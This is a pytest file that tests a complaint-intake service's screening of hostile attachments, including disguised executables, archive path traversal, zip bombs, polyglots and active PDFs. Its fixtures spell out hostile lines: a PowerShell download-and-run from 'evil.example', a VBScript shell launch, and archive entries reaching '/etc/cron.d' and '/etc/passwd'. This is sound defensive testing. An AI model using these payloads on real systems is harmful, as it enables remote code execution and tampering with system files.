"""Family attachment: a file is believed as little as a sender, and no complaint is refused for the file it brings."""

from dataclasses import dataclass
from hashlib import sha256

import pytest
from sqlalchemy import select

from models.filing.cases import CASE, EXHIBIT
from notifier.enclosing import enclosures_of
from tests.desks import letter
from tests.hostile import poisons as p
from tests.hostile.siege import WHEN, Siege
from tests.intake.reading.containers.archives import overlapping_zip, rar_of, raw_zip, tar_of, zip_of
from tests.intake.reading.documents.office_files import docx, paragraph
from tests.intake.reading.outlook_files import compound
from tests.rooms import COMPLAINT


@dataclass(frozen=True)
class Poison:
    """A hostile file; `cause` of its refusal, or "" and the note it is accepted with, only to be described."""

    name: str
    source: str
    filename: str
    content: bytes
    cause: str = "program"
    note: str = ""


OVERRIDE = "\u202e"
SCRIPT = {"/S": "/JavaScript", "/JS": "app.alert(1)"}
UPLOAD = "CWE-434, a dangerous type of file"
TWICE = "CWE-646, reliance on a file's name"
SHOWN = "CWE-451; UTS 36 3.2, bidirectional text"
POISONS = [
    Poison("a Windows program", UPLOAD, "setup.exe", p.PE),
    Poison("a program with another name's ending behind it", "MITRE ATT&CK T1036.007", "slip.pdf.exe", p.PE),
    Poison("spaces before the real ending", "MITRE ATT&CK T1036.007", f"slip.pdf{' ' * 60}.exe", p.PE),
    Poison("dots and spaces behind the ending", "CWE-46, CWE-42", "slip.exe. . ", p.PE),
    Poison("an ending in capitals", "CWE-178", "SLIP.PDF.ExE", p.PE),
    Poison("a zero-width sign in the ending", "CWE-451", "slip.e\u200bxe", b"no mark of its own"),
    Poison("a program called a photo", TWICE, "photo.jpg", p.PE),
    Poison("a program without any name's ending", TWICE, "photo", p.PE),
    Poison("a program called a PDF", TWICE, "slip.pdf", p.PE),
    Poison("a Linux program called a picture", TWICE, "photo.png", p.ELF),
    Poison("a Mac program called a film", TWICE, "defect.mov", p.MACHO),
    Poison("a Java class called a picture", TWICE, "photo.gif", p.CLASS),
    Poison("the reading direction turned, a program", SHOWN, f"slip{OVERRIDE}fdp.exe", p.PE),
    Poison("the reading direction turned, a screen saver", SHOWN, f"photo_{OVERRIDE}gpj.scr", b"anything"),
    Poison("the reading direction turned, a PDF that shows as a program", SHOWN, f"a{OVERRIDE}exe.pdf", p.SLIP, "name"),
    Poison("a shortcut", "MS-SHLLINK; MITRE ATT&CK T1204.002", "invoice.pdf.lnk", p.SHORTCUT),
    Poison("a shortcut called a paper", "MS-SHLLINK", "invoice.docx", p.SHORTCUT),
    Poison("a link to a program on a share", "MITRE ATT&CK T1187", "tracking.url", p.LINK),
    Poison("a link called a text", "MITRE ATT&CK T1187", "tracking.txt", p.LINK),
    Poison("a batch file", UPLOAD, "list.bat", b"@echo off\r\ndel x\r\n"),
    Poison("a PowerShell script", UPLOAD, "list.ps1", b"iex (iwr https://evil.example)"),
    Poison("a VBScript", UPLOAD, "list.vbs", b'CreateObject("WScript.Shell").Run "calc"'),
    Poison("an encoded JScript", UPLOAD, "invoice.pdf.jse", b"#@~^AAAAAA=="),
    Poison("a script host file", UPLOAD, "list.wsf", b'<job><script language="JScript"/></job>'),
    Poison("an HTML application", "MITRE ATT&CK T1218.005", "form.hta", p.PAGE),
    Poison("a shell script called a text", UPLOAD, "notes.txt", p.SHELL),
    Poison("registry settings in UTF-16 called a text", UPLOAD, "notes.txt", p.REGISTRY),
    Poison("a disc image", "MITRE ATT&CK T1553.005", "documents.img", p.ISO),
    Poison("a disc image called a zip", "MITRE ATT&CK T1553.005", "documents.zip", p.ISO),
    Poison("a Java archive", UPLOAD, "viewer.jar", zip_of(("META-INF/MANIFEST.MF", b"Main-Class: X"))),
    Poison("an Android app", UPLOAD, "tracking.apk", zip_of(("AndroidManifest.xml", b"x"), ("classes.dex", b"dex"))),
    Poison("an installer", UPLOAD, "viewer.msi", p.INSTALLER),
    Poison("an installer called a Word file", UPLOAD, "offer.doc", p.INSTALLER),
    Poison("compiled help", "MITRE ATT&CK T1218.001", "manual.chm", p.HELP),
    Poison("a OneNote section called a paper", "MS-ONESTORE 2.3.1", "offer.doc", p.ONENOTE),
    Poison("a Flash film called a film", UPLOAD, "defect.mp4", p.FLASH),
    Poison("a web page as evidence", "CWE-79", "slip.html", p.PAGE, "page"),
    Poison("a web page called a PDF", TWICE, "slip.pdf", p.PAGE, "page"),
    Poison("a web page called a picture", "CWE-79, content sniffing", "photo.jpg", p.PAGE, "page"),
    Poison("a drawing with a script", "CWE-79; SVG 1.1 chapter 18", "photo.svg", p.DRAWING, "page"),
    Poison("a drawing called a picture", "CWE-79", "photo.png", p.DRAWING, "page"),
    Poison("a program in a zip", UPLOAD, "photos.zip", zip_of(("front.jpg", p.JPG), ("slip.exe", p.PE))),
    Poison("a program three zips deep", UPLOAD, "photos.zip", p.nested(3, "photo.jpg", p.PE)),
    Poison("a script in a zip", UPLOAD, "papers.zip", zip_of(("invoice.pdf.js", b"WScript.Echo(1)"))),
    Poison("a program in a tar called a zip", TWICE, "photos.zip", tar_of(("a.scr", p.PE))),
    Poison("a program called a photo in a zip", TWICE, "photos.zip", zip_of(("front.jpg", p.PE))),
    Poison("a zip of a program called a Word file", TWICE, "offer.docx", zip_of(("setup.exe", p.PE))),
    Poison("a zip of photos called a Word file", TWICE, "offer.docx", p.PHOTOS, "mismatch"),
    Poison("a zip called a photo", TWICE, "photo.jpg", p.PHOTOS, "mismatch"),
    Poison("a PDF called a film", TWICE, "defect.mp4", p.SLIP, "mismatch"),
    Poison("a locked zip", "CWE-693", "a.zip", raw_zip((b"a.jpg", b"x"), flags=1), "encrypted"),
    Poison("a rar with a locked list", "CWE-693", "a.rar", rar_of(("a.jpg", b"x"), lock="list"), "encrypted"),
    Poison("a bomb", "CWE-409", "a.zip", zip_of(("zeros.txt", bytes(9 * 1024**2))), "archive"),
    Poison("entries that overlap", "Fifield, WOOT 2019", "a.zip", overlapping_zip(9, b"p"), "archive"),
    Poison("a way out of the folder", "CWE-22", "a.zip", raw_zip((b"../../etc/cron.d/x.txt", b"x")), "archive"),
    Poison("a way out with backslashes", "CWE-22", "a.zip", raw_zip((b"..\\..\\x.txt", b"x")), "archive"),
    Poison("an absolute name", "CWE-36", "a.zip", raw_zip((b"/etc/passwd", b"x")), "archive"),
    Poison("a link to another place", "CWE-59", "a.zip", raw_zip((b"a", b"/etc/passwd"), mode=0o120777), "archive"),
    Poison("a name with a NUL in an archive", "CWE-158", "a.zip", raw_zip((b"a.txt\0.jpg", b"x")), "archive"),
    Poison(
        "a program packed into a Word file", "MITRE ATT&CK T1204.002; MS-OLEDS 2.3.6", "offer.docx",
        docx(paragraph("an offer"), {"word/embeddings/oleObject1.bin": compound({"\x01Ole10Native": p.PE})}),
    ),
    Poison(
        "a program beside the parts of a Word file", UPLOAD, "offer.docx",
        docx(paragraph("an offer"), {"word/media/setup.exe": p.PE}),
    ),
    Poison("a picture with a zip behind its end", "GIFAR, Black Hat 2008", "a.gif", p.GIF + p.PHOTOS, "polyglot"),
    Poison("a picture with a rar behind its end", "CWE-436", "a.jpg", p.JPG + rar_of(("a.txt", b"x")), "polyglot"),
    Poison("a picture with a program behind its end", "CWE-436", "a.jpg", p.JPG + p.PE, "polyglot"),
    Poison("a PDF with a zip behind its end", "Polyglots, CCS 2013", "slip.pdf", p.SLIP + p.PHOTOS, "polyglot"),
    Poison("a PDF that begins behind a program", "Polyglots, CCS 2013", "slip.pdf", p.PE[:300] + p.SLIP),
    Poison(
        "a PDF that begins behind a picture", "Polyglots, CCS 2013", "slip.pdf",
        b"GIF89a" + bytes(99) + p.SLIP, "mismatch",
    ),
    Poison(
        "a script that runs when a PDF is opened", "ISO 32000-1 12.6.4.16", "a.pdf",
        p.acting({"/OpenAction": SCRIPT}), "", "active",
    ),
    Poison(
        "a launch when a PDF is opened", "ISO 32000-1 12.6.4.5", "a.pdf",
        p.acting({"/OpenAction": {"/S": "/Launch", "/F": "calc.exe"}}), "", "active",
    ),
    Poison(
        "a launch when a PDF's page is touched", "ISO 32000-1 12.6.4.5", "a.pdf",
        p.acting(note={"/Subtype": "/Link", "/A": {"/S": "/Launch", "/F": "calc.exe"}}), "", "active",
    ),
    Poison("a program in a PDF", "ISO 32000-1 7.11.4", "a.pdf", p.carrying("setup.exe", p.PE), "", "active"),
    Poison(
        "macros in a Word file", "MITRE ATT&CK T1137", "offer.docx",
        docx(paragraph("an offer"), {"word/vbaProject.bin": b"\x01"}), "", "macros",
    ),
    Poison("noise called a photo", "CWE-646", "photo.jpg", bytes(range(7, 250)) * 9, "", "unread"),
    Poison("a text called a photo", "CWE-646", "photo.jpg", "See my other file, 请看。\n".encode() * 300, "mismatch"),
    Poison("a text called a PDF", "CWE-646", "contract.pdf", b"Pay to the account below.\n", "mismatch"),
    Poison("nothing at all", "CWE-393", "photo.jpg", b"", "empty"),
]  # fmt: skip


@pytest.mark.parametrize("poison", POISONS, ids=lambda one: one.name)
def test_a_poisoned_file_is_refused_or_only_described_and_its_complaint_is_taken(siege: Siege, poison: Poison) -> None:
    number = POISONS.index(poison)
    text = COMPLAINT.replace("Joan Okello", f"Person {number}")
    files = [(poison.filename, poison.content)]
    raw = letter(f"buyer{number}@quiet-shore.example", "Paid and nothing came", text, WHEN, files=files)
    line = siege.rooms.take(raw, WHEN)
    assert line["outcome"] == "created" and line["state_after"] in {"SCREENING", "DRAFT"}
    (file,) = line["attachments"]
    expected = ("refused", poison.cause, []) if poison.cause else ("accepted", None, [poison.note])
    assert (file["decision"], file["cause"], file.get("notes", [])) == expected
    assert sha256(poison.content).hexdigest() not in given_when_served(siege, line["case"])
    if poison.cause:
        assert any("N7" in n["numbers"] for n in siege.rooms.notices(to_address=f"buyer{number}@quiet-shore.example"))


def given_when_served(siege: Siege, ref: str) -> set[str]:
    """SHA-256 of every file that the respondent would be handed if the case were served as it is."""
    mine = select(EXHIBIT).join(CASE, CASE.c.id == EXHIBIT.c.case_id).where(CASE.c.ref == ref)
    with siege.rooms.desk.database.read() as db:
        rows = [dict(row) for row in db.execute(mine).mappings()]
    told = [{**row, "state": "shared", "attach": row["shared_text"] is None} for row in rows if row["state"] != "held"]
    facts = {"ref": ref, "viewer": "respondent", "exhibits": told}
    return {enclosure.sha256 for enclosure in enclosures_of(("N8",), facts, lambda _: ())}
